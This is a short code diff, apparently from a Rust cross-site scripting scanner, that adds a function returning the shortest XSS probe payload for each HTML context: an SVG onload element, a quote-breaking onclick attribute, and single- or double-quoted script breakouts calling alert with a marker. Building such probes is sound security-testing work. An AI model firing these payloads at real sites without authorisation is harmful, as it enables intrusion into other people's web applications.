@@ -45,6 +45,20 @@ fn encoded(prefix: &str, t: &str) -> Vec<String> {
     ]
 }
 
+/// The shortest payload of a context, for values that are cut.
+pub(crate) fn brief(context: &Context, t: &str) -> Option<String> {
+    let element = format!("<svg onload=alert`{t}`>");
+    match context {
+        Context::Text { in_select: false, inert: false } => Some(element),
+        Context::Attribute(quote) if *quote != Quote::None => {
+            Some(format!("{q} onclick=alert`{t}` {q}", q = quote.text()))
+        }
+        Context::Script(InScript { kind: Kind::Single, .. }) => Some(format!("'-alert`{t}`-'")),
+        Context::Script(InScript { kind: Kind::Double, .. }) => Some(format!("\"-alert`{t}`-\"")),
+        _ => None,
+    }
+}
+
 /// The payloads of a context.
 pub(crate) struct Payloads {
     /// What breaks out directly.
